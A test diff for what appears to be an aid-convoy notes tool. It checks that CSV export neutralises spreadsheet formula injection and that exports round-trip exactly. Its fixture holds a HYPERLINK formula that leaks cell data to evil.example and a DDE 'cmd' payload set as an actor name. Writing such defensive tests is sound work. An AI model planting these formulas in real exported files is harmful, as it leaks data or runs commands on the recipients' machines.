@@ -172,3 +172,85 @@ def test_plain_import_of_export_rows_records_them_now(cli, db, busy_history, tmp
         ('Конвой, "trucks" & 🚛\nsecond line', EDITOR.name, None),
     ]
     assert added[1].source_label == "ICRC, Geneva"
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "+1 more convoy",
+    "-5 trucks turned back",
+    "@SUM(A1:A9)",
+    "\tTabbed in",
+    "\rCarriage return first",
+    "'=Already quoted by hand",
+    "''+Two quotes",
+    "'Just a quote",
+    "Plain = text",
+]
+
+
+@pytest.fixture
+def formula_history(db: Database, frozen_time) -> None:
+    """Notes, a label and an actor name that a spreadsheet would take for formulas."""
+    aid = storage.find_channel(db, "aid")
+    sly = Actor(id=ADMIN_ID, name="=cmd|' /C calc'!A0")
+    for summary in FORMULAS:
+        frozen_time.shift(60)
+        storage.add_note(
+            db, channel_id=aid.id, summary=summary, actor=sly,
+            source_url="https://e.org/a", source_label="@label",
+        )  # fmt: skip
+
+
+def _cells(csv_text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]
+
+
+def test_csv_export_neutralises_formulas(cli, db, formula_history) -> None:
+    code, out, _ = cli("export")
+    assert code == 0
+    cells = _cells(out)
+    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")' in cells
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    neutralised = {"'+1 more convoy", "'@label", "'=cmd|' /C calc'!A0", "''=Already quoted by hand"}
+    assert neutralised <= set(cells)
+    assert {"'Just a quote", "Plain = text"} <= set(cells)
+    # JSON stays exact.
+    summaries = [row["summary"] for row in _export(cli)][-len(FORMULAS) :]
+    assert summaries == FORMULAS
+
+
+@pytest.mark.parametrize("export_format", ["csv", "json"])
+def test_formula_looking_text_round_trips_exactly(
+    cli, db, formula_history, tmp_path: Path, export_format: str
+) -> None:
+    first, second = tmp_path / f"first.{export_format}", tmp_path / f"second.{export_format}"
+    restored = tmp_path / "restored.db"
+    assert cli("export", "--format", export_format, "--output", str(first))[0] == 0
+    code, _, err = cli("import", str(first), "--into-empty", database=restored)
+    assert (code, err) == (0, "")
+    assert (
+        cli("export", "--format", export_format, "--output", str(second), database=restored)[0] == 0
+    )
+    assert second.read_bytes() == first.read_bytes()
+    copy = storage.open_database(restored)
+    try:
+        notes = storage.history(copy, storage.find_channel(copy, "aid").id, len(FORMULAS))
+        assert [note.summary for note in reversed(notes)] == FORMULAS
+        assert {(note.actor_name, note.source_label) for note in notes} == {
+            ("=cmd|' /C calc'!A0", "@label")
+        }
+    finally:
+        copy.close()
+
+
+def test_plain_import_of_a_csv_export_keeps_formula_text(cli, db, formula_history, tmp_path):
+    file = tmp_path / "export.csv"
+    assert cli("export", "--output", str(file))[0] == 0
+    code, _, err = cli("import", str(file))
+    assert (code, err) == (0, ""), err
+    added = storage.history(db, storage.find_channel(db, "aid").id, len(FORMULAS))
+    # An ordinary import trims surrounding white space, so the tab and return go.
+    assert [note.summary for note in reversed(added)] == [text.strip() for text in FORMULAS]
+    assert {(note.actor_name, note.source_label) for note in added} == {
+        ("=cmd|' /C calc'!A0", "@label")
+    }
